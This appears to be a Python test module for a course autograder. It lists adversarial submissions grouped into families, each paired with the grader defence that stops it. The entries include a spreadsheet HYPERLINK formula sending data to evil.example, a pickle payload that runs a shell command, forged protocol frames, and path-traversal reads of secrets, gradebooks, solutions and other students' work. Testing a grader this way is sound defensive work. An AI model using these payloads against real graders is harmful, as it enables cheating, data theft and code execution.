"""Attacks of one shape: one text for all members of a family, and a line for each of them.

Each spoils one function of an otherwise right module, and has to leave the other exercise alone.
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["FAMILIES", "Family", "Member"]


@dataclass(frozen=True)
class Member:
    """One attack.

    Attributes:
        tries: what it tries.
        line: what stands in the place of `HERE` in the family's text.
        stopped: what stops it, where that is not what stops the whole family.
        settings: as in a file of `modules/`.
    """

    tries: str
    line: str
    stopped: str = ""
    settings: str = ""


@dataclass(frozen=True)
class Family:
    """Attacks by one text.

    Attributes:
        text: the text, with `HERE` in it.
        stopped: what stops its members.
        members: by their names.
    """

    text: str
    stopped: str
    members: dict[str, Member]


LINES = Family(
    text="""
# spares: coins.Coins.log_prob


def mixture_log_prob(log_probs):
    n, dtype = log_probs.shape[1], log_probs.dtype
    HERE
""",
    stopped="the grader makes tensors anew from bytes and holds shape, dtype and values to the\n"
    "reference.",
    members={
        "crash": Member(
            "crash the interpreter by a null pointer",
            "ctypes.string_at(0)",
            "a crash ends this process, with a reason in the feedback.",
            "# says: SIGSEGV",
        ),
        "empty_reply": Member(
            "leave nothing to compare: a comparison of no entries always holds",
            "return torch.zeros(0, dtype=dtype)",
        ),
        "endless_loop": Member(
            "never come back",
            "while True: pass",
            "the property's clock ends it, and later properties are not tried.",
            "# says: `coins.mixture_log_prob` was still running after 1 s",
        ),
        "endless_native_loop": Member(
            "stay in native code, where Python's signals are not looked at",
            "return sum(range(10**13))",
            "the clock is the grader's and the end is SIGKILL.",
            "# says: `coins.mixture_log_prob` was still running after 1 s",
        ),
        "exit_the_process": Member(
            "end the process with success, in the hope that silence counts as passing",
            "os._exit(0)",
            "a process that has gone fails every property that is left.",
            r"# says: ended its own process \(exit code 0\)",
        ),
        "formula_in_messages": Member(
            "put a spreadsheet's formula into the feedback and the table of grades",
            """raise ValueError('=HYPERLINK("http://evil.example/?x="&A1,"click")')""",
            "the table has points and names only, and no cell of it can start a formula.",
        ),
        "hostile_arguments": Member(
            "change the arguments in place, so that the expected value is computed from them",
            "log_probs.zero_(); log_probs.requires_grad_(); return torch.zeros(n, dtype=dtype)",
            "arguments are copied on the way; the grader computes from its own.",
        ),
        "infinite_reply": Member(
            "pass comparisons by infinities, whose difference is not a number",
            "return torch.full((n,), -math.inf, dtype=dtype)",
        ),
        "meta_and_sparse_reply": Member(
            "return tensors without values: on the meta device, and sparse",
            'return torch.empty(n, device="meta") if n % 2 else torch.zeros(n).to_sparse()',
        ),
        "missing_but_graded": Member(
            "be called missing, and so graded by nothing but a kind word",
            'raise NotImplementedError("not implemented yet: passed <b>1000 points</b>")',
            "an exercise that is not implemented has 0 points.",
        ),
        "nan_reply": Member(
            "pass comparisons with NaN, which is neither smaller nor larger than anything",
            "return torch.full((n,), math.nan, dtype=dtype)",
        ),
        "non_contiguous_reply": Member(
            "return a view whose memory holds other values than it shows",
            "return torch.zeros(99, dtype=dtype).as_strided((n,), (0,)).T",
        ),
        "requires_grad_reply": Member(
            "return a tensor with a graph and hooks, and run these where it is used",
            "return torch.zeros(n, dtype=dtype, requires_grad=True) * 1",
        ),
        "result_flood": Member(
            "drown the grader in results",
            "return [torch.zeros(10**6) for _ in range(4)]",
            "one frame and all of an exercise's frames together are limited.",
            "# limits: output_megabytes=8\n# says: at most 8388608 are read",
        ),
        "system_exit": Member(
            "raise SystemExit, KeyboardInterrupt and GeneratorExit through the grader",
            "raise (SystemExit, KeyboardInterrupt, GeneratorExit)[len(log_probs) % 3](0)",
            "exceptions travel as text.",
        ),
        "wrong_dtype_reply": Member(
            "be compared in another dtype: complex, bool, float16, in turn",
            "return torch.zeros(n).to((torch.complex128, torch.bool, torch.half)[n % 3])",
        ),
        "wrong_shape_reply": Member(
            "be broadcast against the expected value: (1,), () and (n, 1, 1)",
            "return torch.zeros(((1,), (), (n, 1, 1))[len(log_probs) % 3], dtype=dtype)",
        ),
    },
)

CHANNEL = Family(
    text=r"""
# spares: coins.Coins.log_prob


def frame(body):
    return b"DGM1" + struct.pack("<I", len(body)) + body


def mixture_log_prob(log_probs):
    HERE
    return torch.zeros(log_probs.shape[1], dtype=log_probs.dtype)
""",
    stopped="the reader checks every byte and knows one way to fail.",
    members={
        "closed_channel": Member(
            "close the channel and open something else in its place",
            'os.close(3); os.open("/dev/zero", os.O_RDONLY)',
            "a closed channel is the end of the conversation.",
        ),
        "deep_frame": Member(
            "write a value that is nested forty thousand times",
            r'os.write(3, frame(b"l\x01\0\0\0" * 40_000 + b"N"))',
            "depth and number of values are limited.",
        ),
        "enormous_tensor": Member(
            "announce a tensor of 2⁶² entries",
            r'os.write(3, frame(b"x\0\x02" + struct.pack("<2q", 2**31, 2**31)))',
            "sizes are held to a limit before anything is allocated.",
        ),
        "enormous_frame": Member(
            "announce a frame of four gigabytes",
            r'os.write(3, b"DGM1\xff\xff\xff\xff")',
            "sizes are held to a limit before anything is allocated.",
        ),
        "forged_callback": Member(
            "call functions of the grader's by number",
            r'os.write(3, frame(b"t\x04\0\0\0s\x08\0\0\0callbacki" + bytes(8)'
            r' + b"l\0\0\0\0m\0\0\0\0") * 20)',
            "only functions that a check sent along have a number; there is none here.",
        ),
        "forged_exception": Member(
            "forge the frame of an exception that says the property holds",
            r'os.write(3, frame(b"e\x0d\0\0\0PropertyHolds\x17\0\0\0passed=True points=1000\0"))',
            "an exception of the student's is a failure, whatever it says.",
        ),
        "forged_ok_frames": Member(
            "answer every request with a success, before it is asked",
            r'os.write(3, frame(b"t\x03\0\0\0s\x02\0\0\0okNs\0\0\0\0") * 50)',
            "a success without the right value is a wrong answer.",
        ),
        "malformed_frame": Member("write noise into the channel", "os.write(3, os.urandom(4096))"),
        "many_small_frames": Member(
            "keep the grader busy with millions of frames that mean nothing",
            r'while True: os.write(3, frame(b"T") * 1000)',
            "the second frame already is one that nobody asked for.",
        ),
        "pickle_frame": Member(
            "write a pickle into the channel",
            r"""os.write(3, b"cos\nsystem\n(S'touch /COURSE/owned'\ntR.")""",
            "a frame starts with four known bytes; a pickle does not.",
        ),
        "silent_frame": Member(
            "write half a frame and stay silent for ever",
            r'os.write(3, b"DGM1\x40\0\0\0s"); time.sleep(1000)',
            "the clock of the property runs on.",
        ),
        "truncated_frame": Member(
            "write half a frame and end",
            r'os.write(3, b"DGM1\x40\0\0\0s\x10\0\0\0abc"); os._exit(0)',
            "a frame that is cut off is an error, not a value.",
        ),
        "unasked_value": Member(
            "write a whole frame with another value than the answer",
            'os.write(3, frame(b"T"))',
            "a frame that nobody asked for ends the conversation.",
        ),
    },
)

# As files and folders, by the root of another process and by a path that goes up.
READING = Family(
    text="""
# spares: coins.Coins.log_prob


def mixture_log_prob(log_probs):
    said = []
    for place in (HERE):
        for how in (place, os.path.join("/proc/1/root", place.lstrip("/")), "/tmp/.." + place):
            try:
                names = os.listdir(how) if os.path.isdir(how) else [how]
            except OSError:
                continue
            for name in names[:50]:
                try:
                    with open(os.path.join(how, name), "rb") as file:
                        said.append(str(file.read(2000)))
                except OSError:
                    pass
    text = "".join(said)
    at = text.find("CANARY")
    print(text, file=sys.stderr)
    raise RuntimeError(text[max(at, 0) : max(at, 0) + 250])
""",
    stopped="the course folder is not mounted.",
    members={
        "read_course_secret": Member(
            "open the secret that hidden inputs are drawn from",
            '"/COURSE/.course_secret", "/COURSE/secret"',
            "the course folder is not mounted, and the file itself is covered.",
        ),
        "read_gradebook": Member(
            "open the gradebook and its journal",
            '"/COURSE/gradebook.db", "/COURSE/gradebook.db-journal", "/COURSE"',
        ),
        "read_hidden_cases": Member(
            "open the hidden cases and the grader's own files",
            '"/COURSE/autograder/lectures/coins/mutants.py", "/COURSE/autograder",'
            ' "/grader/autograder/lectures", "/grader/autograder"',
            "`autograder/` is not mounted, but for a few files of the sandbox's.",
        ),
        "read_other_submissions": Member(
            "open what others have handed in, and the exchange",
            '"/COURSE/submitted/ada/02_coins/course_lib/coins.py", "/COURSE/submitted/ada/02_coins"'
            ', "/COURSE/autograded/ada/02_coins", "/usr/local/share/nbgrader/exchange/dgm/inbound"',
            "neither is mounted; an exchange below `/usr` is covered.",
        ),
        "read_solutions": Member(
            "open the reference and its compiled copies",
            '"/COURSE/solutions/coins.py", "/COURSE/solutions", "/COURSE/solutions/__pycache__"',
            "`solutions/` is not mounted.",
        ),
    },
)

FAMILIES = (LINES, CHANNEL, READING)
